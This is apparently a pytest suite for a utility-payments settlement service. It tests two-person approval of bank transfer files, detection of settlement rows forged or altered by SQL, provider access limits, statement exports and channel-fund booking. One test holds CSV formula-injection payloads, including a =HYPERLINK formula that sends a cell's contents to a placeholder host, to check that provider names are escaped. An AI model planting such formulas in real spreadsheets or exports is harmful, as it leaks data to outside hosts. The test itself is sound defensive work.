"""From a closed day to the bank over the API: transfer files, channel funds, and the provider's own view."""

import csv
import hashlib
import io
from typing import Any
from uuid import UUID

import httpx
import pytest
import pytest_asyncio
from pypdf import PdfReader
from python_calamine import CalamineWorkbook
from sqlalchemy import text

from chassis.db import Database, new_id, now
from chassis.testing import Tokens, once
from svc_payments.ledger.queries import trial_balance
from svc_payments.parties.providers.models import Provider
from svc_payments.settings import Settings
from tests.security_log import SecurityLog
from tests.svc_payments.reconciliation.runs.books import ingest, reconcile, sample_payment, statement_of
from tests.svc_payments.settlement.bookings import DAY, add_booked_payment

API = "/payments/v1"
REASON = {"reason": "日常结算"}


class Staff:
    """An operator with a token."""

    def __init__(self, api: httpx.AsyncClient, tokens: Tokens) -> None:
        self._api, self.headers = api, tokens.staff("operator")

    async def post(self, path: str, **body: Any) -> httpx.Response:  # noqa: ANN401 - JSON
        return await self._api.post(f"{API}{path}", json=REASON | body, headers=self.headers | once())

    async def get(self, path: str) -> httpx.Response:
        return await self._api.get(f"{API}{path}", headers=self.headers)


@pytest_asyncio.fixture
async def one(api: httpx.AsyncClient, tokens: Tokens) -> Staff:
    return Staff(api, tokens)


@pytest_asyncio.fixture
async def other(api: httpx.AsyncClient, tokens: Tokens) -> Staff:
    return Staff(api, tokens)


@pytest_asyncio.fixture
async def settlement(database: Database, settings: Settings, provider_id: UUID, one: Staff) -> dict[str, Any]:
    """A closed day of the provider: ¥36.40 for two bills."""
    async with database.transaction() as tx:
        payment, _ = await add_booked_payment(tx, provider_id, 1140, 2500)
    await ingest(database, statement_of(payment, day=DAY), day=DAY)
    await reconcile(database, settings, DAY)
    answer = await one.post("/settlements/close", day=DAY.isoformat())
    assert answer.status_code == 201, answer.text
    (closed,) = answer.json()["settlements"]
    return dict(closed)


async def balances(database: Database) -> dict[str, int]:
    async with database.read() as tx:
        balance = await trial_balance(tx)
    assert balance.balance_fen == 0
    return {account.kind: account.balance_fen for account in balance.accounts if account.balance_fen}


async def test_a_settlement_is_paid_by_two_people_and_once(
    database: Database, settlement: dict[str, Any], one: Staff, other: Staff
) -> None:
    file = (await one.post("/transfer-files")).json()
    assert (file["state"], file["transfers"], file["total_fen"]) == ("generated", 1, 3640)
    path = f"/transfer-files/{file['transfer_file_id']}"
    alone = await one.post(f"{path}/sent")
    assert (alone.status_code, alone.json()["code"]) == (403, "second_person_needed")
    early = await one.post(f"{path}/confirmed")
    assert (early.status_code, early.json()["code"]) == (409, "illegal_move")
    assert (await other.post(f"{path}/sent")).json()["state"] == "sent"
    assert (await one.post(f"{path}/confirmed")).json()["state"] == "confirmed"
    again = await one.post(f"{path}/confirmed")
    assert (again.status_code, again.json()["code"]) == (409, "illegal_move")
    paid_out = (await one.get(f"/settlements/{settlement['settlement_id']}")).json()
    assert paid_out["status"] == "confirmed"
    assert await balances(database) == {"channel_receivable": 3640, "bank": -3640}


async def test_a_settlement_is_in_one_transfer_file(settlement: dict[str, Any], one: Staff) -> None:
    assert settlement["status"] == "closed"
    await one.post("/transfer-files")
    again = await one.post("/transfer-files")
    assert (again.status_code, again.json()["code"]) == (409, "nothing_to_pay")


async def test_the_last_line_of_a_file_has_its_totals(settlement: dict[str, Any], one: Staff) -> None:
    file = (await one.post("/transfer-files")).json()
    path = f"/transfer-files/{file['transfer_file_id']}/content"
    plain, chinese = [(await one.get(f"{path}?encoding={encoding}")).content for encoding in ("utf-8", "gb18030")]
    assert chinese.decode("gb18030") == plain.decode()
    *lines, last = plain.decode().splitlines(keepends=True)
    assert next(csv.reader([last])) == ["合计", "1", "36.40", hashlib.sha256("".join(lines).encode()).hexdigest()]
    assert next(csv.reader([lines[2]]))[1:3] == [UUID(settlement["settlement_id"]).hex, DAY.isoformat()]


async def forge_settlement(owner: Database, provider_id: str) -> str:
    """Insert a closed settlement of ¥9,000 by SQL; returns its id."""
    forged = text(
        "INSERT INTO settlements (id, provider_id, day, status, bookings, booked_fen, returned_fen, fee_fen, "
        "payable_fen, held_bookings, held_fen) VALUES (uuidv7(), :provider_id, CURRENT_DATE, 'closed', 1, 900000, 0, "
        "0, 900000, 0, 0) RETURNING id"
    )
    async with owner.transaction() as tx:
        return str((await tx.scalars(forged, {"provider_id": provider_id})).one())


async def test_a_settlement_row_inserted_by_sql_is_not_paid(
    owner: Database, settlement: dict[str, Any], one: Staff
) -> None:
    forged_id = await forge_settlement(owner, settlement["provider_id"])
    answer = await one.post("/transfer-files")
    assert (answer.status_code, answer.json()["code"]) == (409, "settlement_unproven")
    assert forged_id in answer.json()["detail"]
    assert (await one.get("/transfer-files")).json()["items"] == []


async def test_a_settlement_inserted_for_one_provider_holds_no_other(
    owner: Database, database: Database, settlement: dict[str, Any], one: Staff, security_log: SecurityLog
) -> None:
    suspect = Provider(
        provider_id=new_id(), kind="gas", name="Sample Gas Company", endpoint_url="http://127.0.0.1:1", as_of=now()
    )
    async with database.transaction() as tx:
        tx.add(suspect)
    forged_id = await forge_settlement(owner, str(suspect.provider_id))
    security_log.forget()
    file = (await one.post("/transfer-files")).json()
    assert (file["transfers"], file["total_fen"], file["held_settlements"]) == (1, 3640, [forged_id])
    content = (await one.get(f"/transfer-files/{file['transfer_file_id']}/content")).content.decode()
    assert UUID(settlement["settlement_id"]).hex in content
    assert UUID(forged_id).hex not in content
    lines = security_log.lines()
    assert [line["settlement_ids"] for line in lines if line["kind"] == "settlement_unproven"] == [forged_id]
    assert (await one.get(f"/settlements/{forged_id}")).json()["status"] == "closed"
    again = await one.post("/transfer-files")
    assert (again.status_code, again.json()["code"]) == (409, "settlement_unproven")


async def test_figures_changed_by_sql_after_the_file_was_made_are_not_sent(
    owner: Database, settlement: dict[str, Any], one: Staff, other: Staff
) -> None:
    file = (await one.post("/transfer-files")).json()
    async with owner.transaction() as tx:
        await tx.execute(text("UPDATE settlements SET booked_fen = booked_fen + 1, payable_fen = payable_fen + 1"))
    answer = await other.post(f"/transfer-files/{file['transfer_file_id']}/sent")
    assert (answer.status_code, answer.json()["code"]) == (409, "settlement_unproven")


@pytest.mark.parametrize("name", ['=HYPERLINK("https://x.example/?"&F3,"伊犁水务")', "＝1+1", "\t=1", " +1"])
async def test_a_providers_name_never_runs_in_the_bank_file(
    database: Database, settlement: dict[str, Any], one: Staff, name: str
) -> None:
    async with database.transaction() as tx:
        provider = await tx.get_one(Provider, UUID(settlement["provider_id"]))
        provider.name = name
    file = (await one.post("/transfer-files")).json()
    content = (await one.get(f"/transfer-files/{file['transfer_file_id']}/content")).content.decode()
    _, _, row, _ = csv.reader(io.StringIO(content, newline=""))
    assert row[4] == f"'{name}"


async def test_a_provider_sees_its_own_settlements_only(
    api: httpx.AsyncClient, tokens: Tokens, settlement: dict[str, Any], provider_id: UUID
) -> None:
    path = f"{API}/settlements/{settlement['settlement_id']}"
    own, stranger = tokens.client(provider_id, "bills:write"), tokens.client(UUID(int=7), "bills:write")
    assert (await api.get(path, headers=own)).json()["payable_fen"] == 3640
    assert (await api.get(path, headers=stranger)).status_code == 404
    assert (await api.get(f"{path}/statement.csv", headers=stranger)).status_code == 404
    listed = [
        (await api.get(f"{API}/settlements?provider_id={provider_id}", headers=who)).json() for who in (own, stranger)
    ]
    assert [len(page["items"]) for page in listed] == [1, 0]


async def test_a_resident_sees_none(api: httpx.AsyncClient, tokens: Tokens, settlement: dict[str, Any]) -> None:
    answer = await api.get(f"{API}/settlements/{settlement['settlement_id']}", headers=tokens.resident())
    assert answer.status_code == 403


async def test_every_line_is_in_the_csv_and_in_the_workbook(settlement: dict[str, Any], one: Staff) -> None:
    path = f"/settlements/{settlement['settlement_id']}/statement"
    rows = list(csv.reader(io.StringIO((await one.get(f"{path}.csv")).content.decode("utf-8-sig"))))
    assert sorted(row[6] for row in rows[1:]) == ["11.40", "25.00"]
    book = CalamineWorkbook.from_filelike(io.BytesIO((await one.get(f"{path}.xlsx")).content))
    figures = {label: value for label, value in book.get_sheet_by_name("汇总").to_python()}  # noqa: C416 - typed
    assert figures["应付金额（元）"] == 36.4
    assert sorted(row[6] for row in book.get_sheet_by_name("明细").to_python()[1:]) == [11.4, 25.0]


async def test_the_pdf_has_the_figures(settlement: dict[str, Any], one: Staff) -> None:
    answer = await one.get(f"/settlements/{settlement['settlement_id']}/statement.pdf")
    assert answer.headers["content-type"] == "application/pdf"
    page = PdfReader(io.BytesIO(answer.content)).pages[0].extract_text()
    for figure in ("结算单", "Sample Water Company", "¥36.40", "人民币叁拾陆元肆角", DAY.isoformat()):
        assert figure in page


async def test_channel_funds_are_booked_once_and_to_the_fen(database: Database, settings: Settings, one: Staff) -> None:
    payment = sample_payment(10_000, day=DAY)
    raw = (
        statement_of(payment, day=DAY)
        .replace(b",10000,0,succeeded", b",10000,30,succeeded")
        .replace(b",10000,0,0\n", b",10000,0,30\n")
    )
    statement = await ingest(database, raw, day=DAY)
    await reconcile(database, settings, DAY)  # an excess, which puts the money into the books
    path = f"/statements/{statement.id}/funds"
    wrong = await one.post(path, amount_fen=10_000)
    assert (wrong.status_code, wrong.json()["code"], wrong.json()["expected_fen"]) == (409, "funds_differ", 9970)
    assert (await one.post(path, amount_fen=9970)).json()["settled_at"] is not None
    assert await balances(database) == {"bank": 9970, "fees": 30, "suspense": -10_000}
    again = await one.post(path, amount_fen=9970)
    assert (again.status_code, again.json()["code"]) == (409, "funds_already_confirmed")


async def test_a_corrected_statement_does_not_book_the_funds_twice(database: Database, one: Staff) -> None:
    first = await ingest(database, statement_of(sample_payment(100, day=DAY), day=DAY), day=DAY)
    await one.post(f"/statements/{first.id}/funds", amount_fen=100)
    corrected = await ingest(database, statement_of(sample_payment(300, day=DAY), day=DAY), day=DAY)
    answer = await one.post(f"/statements/{corrected.id}/funds", amount_fen=300)
    assert (answer.status_code, answer.json()["code"]) == (409, "funds_already_confirmed")


async def test_funds_are_confirmed_by_the_newest_statement(database: Database, one: Staff) -> None:
    first = await ingest(database, statement_of(sample_payment(100, day=DAY), day=DAY), day=DAY)
    await ingest(database, statement_of(sample_payment(300, day=DAY), day=DAY), day=DAY)
    answer = await one.post(f"/statements/{first.id}/funds", amount_fen=100)
    assert (answer.status_code, answer.json()["code"]) == (409, "statement_replaced")
